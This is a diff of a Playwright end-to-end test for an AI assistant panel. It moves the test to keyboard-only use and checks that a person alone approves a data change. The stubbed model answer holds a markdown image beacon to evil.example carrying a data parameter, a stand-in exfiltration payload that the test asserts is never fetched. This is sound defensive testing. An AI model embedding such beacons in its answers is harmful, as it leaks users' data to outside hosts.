@@ -1,5 +1,6 @@
 import { startModelServer, type ModelServer } from '@sluice/testing/model-server';
 import { expectAccessible } from '../../support/accessible.ts';
+import { pressAt } from '../../support/keyboard.ts';
 import { callApi, expect, test as base } from '../../support/platform.ts';
 import { fillLogin } from '../../support/users.ts';
 
@@ -29,7 +30,7 @@ const test = base.extend<object, { model: ModelServer }>({
 // The other stories run without a model.
 test.use({ platformName: 'assistant' });
 
-test('a person asks, reads what the answer rests on, and alone decides on a change', async ({
+test('a person asks, reads what the answer rests on, and alone decides on a change, by keyboard only', async ({
   page,
   platform,
   model,
@@ -63,10 +64,10 @@ test('a person asks, reads what the answer rests on, and alone decides on a chan
     { text: 'There is **one** input. ![x](https://evil.example/beacon?d=1) [open](https://evil.example)' },
   ]);
 
-  await test.step('asks in the panel, by keyboard', async () => {
+  await test.step('asks in the panel', async () => {
     await page.goto(`${url}/encoding/inputs`);
     await fillLogin(page, owner);
-    await page.getByRole('button', { name: 'Assistant' }).press('Enter');
+    await pressAt(page, page.getByRole('button', { name: 'Assistant' }));
     const field = page.getByRole('textbox', { name: 'Message' });
     await expect(field).toBeFocused();
     await page.keyboard.type('Which inputs do I have?');
@@ -79,26 +80,30 @@ test('a person asks, reads what the answer rests on, and alone decides on a chan
   });
 
   await test.step('reads what the model has read, also what was refused', async () => {
-    await page.getByText('API: encoding.inputs.list').click();
+    await pressAt(page, page.locator('summary', { hasText: 'API: encoding.inputs.list' }));
     await expect(page.getByRole('log').getByText(/Old archive/)).toBeVisible();
     await expect(page.getByText('API: encoding.inputs.https.delete (refused)')).toBeVisible();
     expect(await inputCount()).toBe(1);
   });
 
   await test.step('approves the change on its screen, and only then it is made', async () => {
-    await page.getByRole('link', { name: /Decide on/ }).click();
+    await pressAt(page, page.getByRole('link', { name: /Decide on/ }));
     await expect(page).toHaveURL(/\/ai-innovation-hub\/proposals\//);
     expect(await inputCount()).toBe(1);
-    await page.getByRole('button', { name: 'Approve and make the change' }).click();
+    await pressAt(page, page.getByRole('button', { name: 'Approve and make the change' }));
     await expect.poll(inputCount).toBe(0);
   });
 
   await test.step('finds the chat again after a reload', async () => {
     await page.reload();
-    await page.getByRole('button', { name: 'Assistant' }).click();
-    await page.getByRole('button', { name: 'Earlier chats' }).click();
-    await page.getByRole('button', { name: 'Which inputs do I have?', exact: true }).click();
+    const open = page.getByRole('button', { name: 'Assistant' });
+    await pressAt(page, open);
+    await pressAt(page, page.getByRole('button', { name: 'Earlier chats' }));
+    await pressAt(page, page.getByRole('button', { name: 'Which inputs do I have?', exact: true }));
     await expect(page.getByText('There is one input.')).toBeVisible();
+    await page.keyboard.press('Escape');
+    await expect(page.getByText('There is one input.')).toBeHidden();
+    await expect(open).toBeFocused();
   });
   expect(otherHosts).toEqual([]);
 });
